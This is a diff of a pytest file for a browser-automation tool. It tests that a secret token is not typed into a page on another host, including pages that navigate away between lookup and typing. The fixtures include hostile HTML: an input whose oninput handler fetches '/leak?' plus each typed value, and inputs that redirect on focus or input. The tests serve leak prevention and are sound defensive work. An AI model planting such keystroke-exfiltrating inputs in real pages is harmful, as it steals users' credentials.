@@ -6,10 +6,14 @@ import threading
 import time
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
+import pytest
 from sites import Played, Site, later
 from starlette.requests import Request
 from starlette.responses import HTMLResponse, RedirectResponse, Response
+
+from runwright.engine.stage import Stage
 
 Play = Callable[..., Played]
 
@@ -361,28 +365,69 @@ sections:
     assert played.site.count("POST", "/hit") == 1
 
 
-def test_a_page_that_navigates_between_look_and_typing_gets_no_secret(play: Play, tmp_path: Path) -> None:
-    (tmp_path / "secret").write_text("hunter2-hunter2-hunter2")
-    elsewhere = """<title>B</title><label>Token <input oninput="fetch('/leak?' + this.value)"></label>"""
-    page = """<title>A</title><label>Token <input onfocus="location = 'https://other.example/'"></label>"""
-    book = """title: A test
+ELSEWHERE = """<title>B</title><label>Token <input autofocus oninput="fetch('/leak?' + this.value)"></label>"""
+"""A page that may not have the secret, and tells of all that is entered."""
+
+
+def typing(verb: str, page: str, secret: Path) -> tuple[dict[str, str], str]:
+    book = f"""title: A test
 sites:
-  shop: { url: https://shop.example, stand_in: site }
-  other: { url: https://other.example, stand_in: site }
+  shop: {{ url: https://shop.example, stand_in: site }}
+  other: {{ url: https://other.example, stand_in: site }}
 secrets:
-  token: { about: The token, typed_at: shop, from: "file:%s" }
+  token: {{ about: The token, typed_at: shop, from: "file:{secret}" }}
 sections:
   - title: Type it
     open: shop /
     steps:
-      - click: textbox "Token"
-      - fill: textbox "Token"
-        with: ${token}
-""" % (tmp_path / "secret")
-    played = play({"/": page, "//other.example/": elsewhere}, book)
+      - {verb}: textbox "Token"
+        with: ${{token}}
+"""
+    return {"/": page, "//other.example/": ELSEWHERE}, book
+
+
+def leaks(played: Played) -> int:
+    return sum("leak" in path for _, _, path in played.site.asked)
+
+
+def test_a_secret_is_not_typed_where_it_is_not_allowed(play: Play, tmp_path: Path) -> None:
+    (tmp_path / "secret").write_text("hunter2-hunter2-hunter2")
+    page = """<title>A</title><label>Token <input onfocus="location = 'https://other.example/'"></label>"""
+    pages, book = typing("fill", page, tmp_path / "secret")
+    played = play(pages, book.replace("      - fill", '      - click: textbox "Token"\n      - fill', 1))
     assert played.result.status == "failed"
     assert "may be typed at https://shop.example, not at https://other.example" in played.message
-    assert not any("leak" in path for _, _, path in played.site.asked)
+    assert leaks(played) == 0
+    assert b"hunter2" not in played.everything()
+
+
+@pytest.mark.parametrize("verb", ["fill", "type", "paste"])
+def test_a_page_that_navigates_between_look_and_typing_gets_no_secret(
+    play: Play, tmp_path: Path, verb: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "secret").write_text("hunter2-hunter2-hunter2")
+    looked = Stage.reveal
+
+    def look_then_navigate(stage: Stage, value: Any) -> str:
+        text = looked(stage, value)
+        stage.page.goto("https://other.example/")
+        return text
+
+    monkeypatch.setattr(Stage, "reveal", look_then_navigate)
+    played = play(*typing(verb, "<title>A</title><label>Token <input></label>", tmp_path / "secret"))
+    assert any(host == "other.example" for _, host, _ in played.site.asked), "it did not navigate"
+    assert played.result.status == "failed"
+    assert leaks(played) == 0
+    assert b"hunter2" not in played.everything()
+
+
+def test_a_page_that_navigates_while_a_secret_is_typed_gets_no_more_of_it(play: Play, tmp_path: Path) -> None:
+    (tmp_path / "secret").write_text("hunter2-" * 40)
+    page = """<title>A</title><label>Token <input oninput="location = 'https://other.example/'"></label>"""
+    played = play(*typing("type", page, tmp_path / "secret"))
+    assert any(host == "other.example" for _, host, _ in played.site.asked), "it did not navigate"
+    assert played.result.status == "failed"
+    assert leaks(played) < 8
     assert b"hunter2" not in played.everything()
 
 
